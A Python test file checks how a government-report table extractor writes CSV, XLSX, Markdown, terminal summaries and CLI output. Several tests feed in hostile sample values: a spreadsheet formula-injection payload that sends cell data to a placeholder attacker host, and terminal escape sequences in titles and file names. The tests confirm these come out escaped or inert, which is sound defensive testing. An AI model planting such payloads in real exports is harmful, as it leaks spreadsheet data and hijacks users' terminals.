"""What people open: the printed table layout, CSV (labels, BOM), XLSX, Markdown, the terminal
summary, the displaCy view, and the CLI's output options."""
from __future__ import annotations

import copy
import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from govreport.extraction.document import Document, Span
from govreport.extraction.export import TIDY_FIELDS, UTF8_BOM, cell_status, cells_csv, failed_check_cells, tidy_cells
from govreport.extraction.export_text import summary_text, to_markdown
from govreport.extraction.labels import Label
from govreport.extraction.pipeline import Extractor
from govreport.extraction.printed import printed_table
from govreport.extraction.taggers import get_tagger
from govreport.extraction.templates import FORMATS, TABLES, table_spec

CORPUS = Path(__file__).parent / "data" / "corpus"
GOVREPORT = [sys.executable, "-m", "govreport.service.cli"]


@pytest.fixture(scope="module")
def outputs() -> dict[str, dict[str, Any]]:
    """Two real extractions: a 2019-format text report and a 2021-format HTML one."""
    ex = Extractor(get_tagger("rules"))
    out = {}
    for name in ("seed_000.txt", "hangzhou_fixture.html"):
        d = ex.extract_path(CORPUS / name).to_dict()
        assert d["template"] and all(d["tables"].values()), f"precondition: {name} has all three tables"
        out[name] = d
    return out


def run(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONIOENCODING": "utf-8"}
    return subprocess.run([*GOVREPORT, *args], capture_output=True, text=True, cwd=cwd, env=env, timeout=300)


# ---- the printed layout -------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("table", TABLES)
def test_printed_layout_covers_the_grid_and_every_contract_cell_once(fmt: str, table: str) -> None:
    p = printed_table(fmt, table)
    grid = p.grid()
    assert all(slot is not None for row in grid for slot in row), "a hole in the printed grid"
    values = [(cell.row, cell.col) for row in p.rows for cell in row if cell.kind == "value"]
    spec = table_spec(fmt, table)
    assert sorted(values) == sorted((r.key, c) for r in spec.rows for c in r.cols)
    assert set(p.row_paths) == set(spec.row_keys)


def test_applications_header_spans_and_row_groups_as_printed() -> None:
    p = printed_table("2021", "applications")
    head = {c.text: c for row in p.rows[: p.header_rows] for c in row if c.kind == "head"}
    assert (head["申请人情况"].colspan, head["法人或其他组织"].colspan) == (7, 5)
    assert head["自然人"].rowspan == head["总计"].rowspan == 2 and p.header_rows == 3
    groups = {c.text: c for row in p.rows for c in row if c.kind == "group"}
    keys = table_spec("2021", "applications").row_keys
    assert groups["三、本年度办理结果"].rowspan == keys.index("total_handled") - keys.index("granted") + 1
    assert groups["（三）不予公开"].rowspan == 8 and groups["（六）其他处理"].rowspan == 3
    assert p.row_label("denied_state_secret") == "三、本年度办理结果 · （三）不予公开 · 1.属于国家秘密"
    assert "（六）其他处理" not in {c.text for row in printed_table("2019", "applications").rows for c in row if c.kind == "group"}


def test_review_is_one_printed_row_of_fifteen_under_its_groups() -> None:
    p = printed_table("2019", "review_litigation")
    body = p.rows[p.header_rows :]
    assert len(body) == 1 and len(body[0]) == 15
    texts = [(c.text, c.colspan, c.rowspan) for c in p.rows[0]]
    assert texts == [("行政复议", 5, 1), ("行政诉讼", 10, 1)]
    assert [(c.text, c.colspan) for c in p.rows[1] if c.colspan > 1] == [("未经复议直接起诉", 5), ("复议后起诉", 5)]


# ---- CSV ----------------------------------------------------------------------------------------


def test_tidy_cells_carry_the_report_and_chinese_labels(outputs: dict[str, dict[str, Any]]) -> None:
    d = outputs["hangzhou_fixture.html"]
    recs = tidy_cells(d, "h.html")
    assert len(recs) == sum(len(cols) for t in d["tables"].values() for cols in t.values())
    for r in recs:
        assert (r["template"], r["year"], r["organ"], r["source"]) == (d["template"], d["year"], d["organ"], "h.html")
        assert r["value"] == d["tables"][r["table"]][r["row"]][r["col"]]
    by_key = {(r["table"], r["row"], r["col"]): r for r in recs}
    r = by_key[("applications", "not_processed_duplicate", "commercial_enterprise")]
    assert (r["table_label"], r["row_label"], r["col_label"]) == (
        "三、收到和处理政府信息公开申请情况", "三、本年度办理结果 · （五）不予处理 · 2.重复申请", "商业企业",
    )  # fmt: skip
    assert by_key[("review_litigation", "litigation_direct", "total")]["row_label"] == "行政诉讼 · 未经复议直接起诉"


def test_csv_has_a_bom_for_excel_and_reads_back(outputs: dict[str, dict[str, Any]]) -> None:
    recs = tidy_cells(outputs["seed_000.txt"], "s.txt")
    text = cells_csv(recs, bom=True)
    assert text.startswith(UTF8_BOM) and not cells_csv(recs).startswith(UTF8_BOM)
    rows = list(csv.DictReader(io.StringIO(text.encode("utf-8").decode("utf-8-sig"))))
    assert tuple(rows[0]) == TIDY_FIELDS and len(rows) == len(recs)
    assert [row["row_label"] for row in rows] == [r["row_label"] for r in recs]
    assert [row["value"] for row in rows] == ["" if r["value"] is None else str(r["value"]) for r in recs]


# ---- XLSX ---------------------------------------------------------------------------------------


def test_xlsx_has_the_printed_tables_and_the_tidy_cells(outputs: dict[str, dict[str, Any]]) -> None:
    from openpyxl import load_workbook

    from govreport.extraction.export_xlsx import to_xlsx

    d = outputs["hangzhou_fixture.html"]
    wb = load_workbook(io.BytesIO(to_xlsx(d, "h.html")))
    assert wb.sheetnames[-2:] == ["cells", "checks"] and len(wb.sheetnames) == 5
    for name, ws in zip(TABLES, wb.worksheets):
        p = printed_table(d["template"], name)
        assert ws["A1"].value == p.title
        grid, top = p.grid(), 4
        n_values = 0
        for r, row in enumerate(grid):
            for c, (cell, origin) in enumerate(row):
                if origin and cell.kind == "value":
                    assert ws.cell(top + r, c + 1).value == d["tables"][name][cell.row][cell.col], (name, cell)
                    n_values += 1
                elif origin and cell.text:
                    assert ws.cell(top + r, c + 1).value == cell.text
        assert n_values == sum(len(cols) for cols in d["tables"][name].values())
    merged = {str(m) for m in wb.worksheets[1].merged_cells.ranges}
    assert "D4:J4" in merged  # 申请人情况 over the seven applicant columns
    cells = list(wb["cells"].iter_rows(values_only=True))
    assert cells[0] == TIDY_FIELDS
    assert [tuple(r) for r in cells[1:]] == [tuple(rec[k] for k in TIDY_FIELDS) for rec in tidy_cells(d, "h.html")]
    assert len(list(wb["checks"].iter_rows())) == 1 + len(d["checks"]) + len(d["warnings"])


# ---- Markdown and the summary --------------------------------------------------------------------


def _numbers(text: str) -> list[str]:
    return re.findall(r"(?<![\w.])\d+(?:\.\d+)?(?![\w.])", text)


def _md_cells(md: str) -> list[str]:
    rows = [line for line in md.splitlines() if line.startswith("| ") and not line.startswith("| 项目")]
    return [c.strip() for line in rows for c in line.strip("|").split(" | ")[1:]]


def _expected_text(d: dict[str, Any], table: str, row: str, col: str, failed: set[str]) -> str:
    v, st = d["tables"][table][row][col], cell_status(d, table, row, col)
    text = {"unreadable": "?", "missing": "…"}[st] if v is None and st in ("unreadable", "missing") else "—" if v is None else str(v)
    text += "~" if st == "inferred" else "?" if st == "unreadable" and v is not None else ""
    return text + ("!" if f"{table}.{row}.{col}" in failed else "")


def test_markdown_tables_hold_every_value_in_order_with_its_marks(outputs: dict[str, dict[str, Any]]) -> None:
    d = outputs["seed_000.txt"]
    md = to_markdown(d, "s.txt")
    for name in TABLES:
        assert f"## {printed_table(d['template'], name).title}" in md
    keys = [(t, r, c) for t, rows in d["tables"].items() for r, cols in rows.items() for c in cols]
    failed = set(failed_check_cells(d))
    assert _md_cells(md) == [_expected_text(d, *k, failed) for k in keys]


def test_marks_show_how_each_cell_was_read_and_which_failed_a_check(outputs: dict[str, dict[str, Any]]) -> None:
    """Hand-set statuses and a failed check on a real result: every export marks them."""
    from openpyxl import load_workbook

    from govreport.extraction.export_xlsx import STATUS_FILLS, to_xlsx

    d = copy.deepcopy(outputs["hangzhou_fixture.html"])
    rl = d["tables"]["review_litigation"]
    d["cell_status"] = {t: {r: {c: "read" for c in cols} for r, cols in rows.items()} for t, rows in d["tables"].items()}
    st = d["cell_status"]["review_litigation"]
    st["administrative_review"]["upheld"] = "inferred"
    st["administrative_review"]["other"], rl["administrative_review"]["other"] = "unreadable", None
    st["litigation_direct"]["pending"], rl["litigation_direct"]["pending"] = "missing", None
    ops = [f"review_litigation.litigation_after_review.{c}" for c in rl["litigation_after_review"]]
    d["checks"] = [{"rule": "review_litigation.total[litigation_after_review]", "status": "fail", "ok": False, "operands": ops, "detail": "x"}]
    failed = set(failed_check_cells(d))
    assert failed == set(ops)

    md = to_markdown(d)
    keys = [(t, r, c) for t, rows in d["tables"].items() for r, cols in rows.items() for c in cols]
    texts = dict(zip(keys, _md_cells(md)))
    assert texts[("review_litigation", "administrative_review", "upheld")] == f"{rl['administrative_review']['upheld']}~"
    assert texts[("review_litigation", "administrative_review", "other")] == "?"
    assert texts[("review_litigation", "litigation_direct", "pending")] == "…"
    assert all(texts[("review_litigation", "litigation_after_review", c)].endswith("!") for c in rl["litigation_after_review"])
    assert sum(t.endswith(("~", "?", "…", "!")) for t in texts.values()) == 3 + len(ops)
    summary = summary_text(d)
    assert "?" in summary and "…" in summary and "~ 推断所得" in summary

    wb = load_workbook(io.BytesIO(to_xlsx(d)))
    ws = wb.worksheets[2]
    p = printed_table(d["template"], "review_litigation")
    where = {(cell.row, cell.col): (r, c) for r, row in enumerate(p.grid()) for c, (cell, o) in enumerate(row) if o and cell.kind == "value"}
    for (row, col), (r, c) in where.items():
        xl = ws.cell(4 + r, c + 1)
        status = st[row][col]
        assert (xl.fill.fgColor.rgb[-6:] == STATUS_FILLS[status]) if status in STATUS_FILLS else xl.fill.fill_type is None
        assert (xl.border.left.color is not None and xl.border.left.color.rgb[-6:] == "C0392B") == (f"review_litigation.{row}.{col}" in failed)
        assert (xl.comment is not None) == (status in STATUS_FILLS or f"review_litigation.{row}.{col}" in failed)


def test_summary_shows_the_three_tables_with_labels(outputs: dict[str, dict[str, Any]]) -> None:
    d = outputs["hangzhou_fixture.html"]
    text = summary_text(d, "h.html")
    assert d["organ"] in text.splitlines()[0] and f"{d['year']}年" in text.splitlines()[0]
    for name in TABLES:
        assert printed_table(d["template"], name).title in text
    line = next(x for x in text.splitlines() if x.strip().startswith("2.重复申请"))
    assert _numbers(line.split("2.重复申请")[1]) == [str(v) for v in d["tables"]["applications"]["not_processed_duplicate"].values()]
    assert f"{sum(c['ok'] for c in d['checks'])} of {len(d['checks'])} pass" in text


# ---- displaCy --------------------------------------------------------------------------------------


def test_displacy_view_keeps_lines_tabs_and_labels_one_character_spans() -> None:
    from govreport.extraction.render import render_html

    text = "规章\t3\t5\t74\n行政许可  1"
    doc = Document.from_text(text).with_spans(
        [Span(0, 2, Label.ROW), Span(3, 4, Label.CELL), Span(5, 6, Label.CELL), Span(5, 7, Label.CELL),
         Span(7, 9, Label.CELL), Span(10, 14, Label.ROW), Span(16, 17, Label.CELL)]
    )  # fmt: skip
    html = render_html(doc, page=True)
    assert "white-space: pre-wrap" in html
    body = html[html.index('<div class="entities"') : html.index("</div>") + len("</div>")]
    marks = re.findall(r'<mark class="entity"[^>]*>([^<]*)<span class="label">(\w+)</span></mark>', body)
    assert marks == [("规章", "ROW"), ("3", "CELL"), ("5", "CELL"), ("74", "CELL"), ("行政许可", "ROW"), ("1", "CELL")]
    plain = re.sub(r'<span class="label">\w+</span>', "", body)
    plain = re.sub(r"<br>", "\n", plain)
    plain = re.sub(r"<[^>]+>", "", plain)
    assert plain == text  # tabs, the double space and the line break are all still there


# ---- the CLI ------------------------------------------------------------------------------------


def test_extract_without_out_prints_a_summary_and_writes_nothing(tmp_path: Path) -> None:
    r = run("extract", str(CORPUS / "seed_000.txt"), "--tagger", "rules", cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    assert "三、收到和处理政府信息公开申请情况" in r.stdout and "自然人" in r.stdout
    assert len(r.stdout) < 8000 and list(tmp_path.iterdir()) == []


def test_extract_html_to_stdout_is_an_error(tmp_path: Path) -> None:
    r = run("extract", str(CORPUS / "seed_000.txt"), "-o", "-", "--html", "--tagger", "rules")
    assert r.returncode == 2 and "--html" in r.stderr and r.stdout == ""
    r = run("extract", str(CORPUS / "seed_000.txt"), "-o", "-", "--format", "xlsx", "--tagger", "rules")
    assert r.returncode == 2 and "xlsx" in r.stderr


def test_extract_formats_collisions_and_errors_above_the_progress_bar(tmp_path: Path) -> None:
    inputs = tmp_path / "in"
    inputs.mkdir()
    shutil.copy(CORPUS / "seed_001.txt", inputs / "a.txt")
    shutil.copy(CORPUS / "hangzhou_fixture.html", inputs / "a.html")
    (inputs / "b.txt").write_text("今天天气很好。我们去公园散步。", encoding="utf-8")
    out = tmp_path / "out"
    for fmt in ("json", "csv", "xlsx", "md"):
        r = run("extract", str(inputs / "a.html"), str(inputs / "b.txt"), str(inputs / "a.txt"), "-o", str(out),
                "--format", fmt, "--tagger", "rules")  # fmt: skip
        assert r.returncode == 1
        assert (out / f"a.{fmt}").exists() and (out / f"a-2.{fmt}").exists() and not (out / f"b.{fmt}").exists()
        # each error on a line of its own, not glued to the progress bar's line
        lines = [line.split("\r")[-1] for line in r.stderr.split("\n") if "error:" in line]
        assert len(lines) == 1 and lines[0].startswith("error: ") and "b.txt" in lines[0], r.stderr
    assert json.loads((out / "a.json").read_text("utf-8"))["template"] == "2021"  # a.html came first
    assert json.loads((out / "a-2.json").read_text("utf-8"))["template"] == "2019"
    assert (out / "a.csv").read_bytes().startswith(UTF8_BOM.encode("utf-8"))
    r = run("extract", str(inputs / "a.txt"), "-o", "-", "--format", "csv", "--tagger", "rules")
    assert not r.stdout.startswith(UTF8_BOM) and r.stdout.startswith(",".join(TIDY_FIELDS))
    r = run("extract", str(inputs / "a.txt"), "-o", "-", "--format", "csv", "--bom", "--tagger", "rules")
    assert r.stdout.startswith(UTF8_BOM)


def test_the_readme_first_command_writes_the_json_and_prints_the_summary(tmp_path: Path) -> None:
    readme = (Path(__file__).parents[1] / "README.md").read_text("utf-8")
    assert "govreport extract examples/report_2020.txt -o out/ --summary" in readme
    example = Path(__file__).parents[1] / "examples" / "report_2020.txt"
    r = run("extract", str(example), "-o", str(tmp_path / "out"), "--summary", "--tagger", "rules")
    assert r.returncode == 0, r.stderr
    d = json.loads((tmp_path / "out" / "report_2020.json").read_text("utf-8"))
    assert d["organ"] in r.stdout.splitlines()[0] and "三、收到和处理政府信息公开申请情况" in r.stdout
    assert len(r.stdout) < 8000 and "provenance" not in r.stdout


def test_a_stray_nul_inside_a_figure_is_written_escaped_in_csv_and_xlsx() -> None:
    # the cell's printed text "1\x000" (ingest reads a converter's few NULs) made openpyxl raise
    # IllegalCharacterError (a traceback from `extract --format xlsx`) and put a NUL into the CSV
    from openpyxl import load_workbook

    from govreport.extraction.export_xlsx import to_xlsx

    text = (CORPUS / "seed_000.txt").read_text("utf-8")
    m = re.search(r"\t(\d)(\d+)\t", text)
    assert m is not None
    damaged = text[: m.start(2)] + "\x00" + text[m.start(2) :]
    out = Extractor(get_tagger("rules")).extract_text(damaged, "r.txt").to_dict()
    rows = tidy_cells(out, "r.txt")
    escaped = [r for r in rows if r["text"] == f"{m.group(1)}\\x00{m.group(2)}"]
    assert len(escaped) == 1 and escaped[0]["status"] == "inferred"
    data = cells_csv(rows)
    assert "\x00" not in data and len(list(csv.DictReader(io.StringIO(data)))) == len(rows)
    wb = load_workbook(io.BytesIO(to_xlsx(out, "r.txt")))
    comments = [c.comment.text for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.comment]
    assert any(f"{m.group(1)}\\x00{m.group(2)}" in t for t in comments), comments


def test_control_characters_in_warnings_and_checks_are_written_escaped_in_xlsx() -> None:
    # a control character the table reader took for a value is quoted in a warning ("the 2nd value
    # (\x1b) ... was left out"): openpyxl raised IllegalCharacterError on the checks sheet
    from openpyxl import load_workbook

    from govreport.extraction.export_xlsx import to_xlsx

    out = {"template": None, "organ": "某\x01局", "tables": {}, "warnings": ["the 2nd value (\x1b) was left out"],
           "checks": [{"rule": "r", "ok": False, "detail": "1\x0b2"}]}  # fmt: skip
    wb = load_workbook(io.BytesIO(to_xlsx(out, "r.txt")))
    texts = [c.value for row in wb["checks"].iter_rows() for c in row if isinstance(c.value, str)]
    assert "the 2nd value (\\x1b) was left out" in texts and "1\\x0b2" in texts, texts


def test_a_control_character_in_the_organ_is_written_escaped_in_the_tidy_cells() -> None:
    # the organ is read from the title as printed ("湖南省退役\x1b军人事务厅"): openpyxl raised
    # IllegalCharacterError on the cells sheet and the CSV held the raw character
    rows = tidy_cells({"template": None, "organ": "某\x1b局", "tables": {"t": {"r": {"c": 1}}}}, "r.txt")
    assert [r["organ"] for r in rows] == ["某\\x1b局"]


def test_control_characters_a_report_holds_are_shown_escaped_in_the_summary_and_markdown() -> None:
    # the organ is read from the title as printed: `extract` without -o wrote its ESC sequences
    # raw to the terminal (here one that retitles the window, then red text, a CR and a C1 CSI)
    out = {"template": None, "organ": "湖南省退役\x1b]0;pwned\x07军人\x1b[31m事务厅", "year": 2020, "tables": {},
           "warnings": ["the 2nd value (\x1b) was left out\roverwritten \x9b2J"],
           "checks": [{"rule": "r", "status": "fail", "ok": False, "detail": "1\x0b2"}]}  # fmt: skip
    for text in (summary_text(out, "r\x1b.txt"), to_markdown(out, "r.txt")):
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", text), repr(text)
        assert "湖南省退役\\x1b]0;pwned\\x07军人\\x1b[31m事务厅" in text
        assert "(\\x1b) was left out\\x0doverwritten \\x9b2J" in text and "1\\x0b2" in text
    assert "[r\\x1b.txt]" in summary_text(out, "r\x1b.txt")


def test_extract_without_out_prints_a_title_s_control_characters_escaped(tmp_path: Path) -> None:
    report = (CORPUS / "seed_000.txt").read_text("utf-8")
    title = next(line for line in report.splitlines() if "年度报告" in line)
    src = tmp_path / "r.txt"
    src.write_text(report.replace(title, title[:3] + "\x1b[2J\x1b]0;x\x07" + title[3:], 1), "utf-8")
    r = run("extract", str(src), "--tagger", "rules", cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    assert "\x1b" not in r.stdout and "\\x1b[2J\\x1b]0;x\\x07" in r.stdout


def test_an_error_line_shows_a_file_name_s_control_characters_escaped(tmp_path: Path) -> None:
    src = tmp_path / "bad\x1b[2Jname.txt"
    src.write_text("", "utf-8")
    r = run("extract", str(src), "--tagger", "rules", cwd=tmp_path)
    assert r.returncode == 1 and "\x1b" not in r.stderr and "bad\\x1b[2Jname.txt" in r.stderr, r.stderr


def test_a_title_that_reads_as_a_formula_is_text_in_xlsx_and_csv() -> None:
    # the organ is read from the title: "=HYPERLINK(...)局" became a live formula in every cell of the
    # cells sheet and the captions (openpyxl stores a string starting with "=" as a formula), and a
    # formula in the CSV that Excel runs
    from openpyxl import load_workbook

    from govreport.extraction.export import inert_field
    from govreport.extraction.export_xlsx import to_xlsx

    organ = '=HYPERLINK("http://evil.example/"&A1,"点此")局'
    out = {"template": None, "organ": organ, "year": 2020, "tables": {"t": {"r": {"c": -1}}},
           "warnings": ["@SUM(1)"], "checks": []}  # fmt: skip
    wb = load_workbook(io.BytesIO(to_xlsx(out, "+r.txt")))
    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert organ in [c.value for c in cells] and "@SUM(1)" in [c.value for c in cells]
    rows = list(csv.DictReader(io.StringIO(cells_csv(tidy_cells(out, "+r.txt")))))
    assert rows[0]["organ"] == "'" + organ and rows[0]["source"] == "'+r.txt" and rows[0]["value"] == "-1"
    assert [inert_field(v) for v in ("-", "-12", "+3.5", "1,234", "-5%", "-a", "@x", 7)] == ["-", "-12", "+3.5", "1,234", "-5%", "'-a", "'@x", 7]


def test_a_file_name_with_a_control_character_is_written_escaped_in_xlsx_and_csv(tmp_path: Path) -> None:
    # `extract --format xlsx` on "a<ESC>b.txt" ended in openpyxl's IllegalCharacterError (a
    # traceback): the tidy cells' source was the raw name; CSV held the raw character
    src = tmp_path / "a\x1bb.txt"
    shutil.copy(CORPUS / "seed_000.txt", src)
    for fmt in ("xlsx", "csv"):
        r = run("extract", str(src), "--tagger", "rules", "-o", str(tmp_path / "out"), "--format", fmt)
        assert r.returncode == 0 and "Traceback" not in r.stderr, r.stderr
    rows = list(csv.DictReader(io.StringIO((tmp_path / "out" / "a\x1bb.csv").read_text("utf-8-sig"))))
    assert {row["source"] for row in rows} == {str(src).replace("\x1b", "\\x1b")}
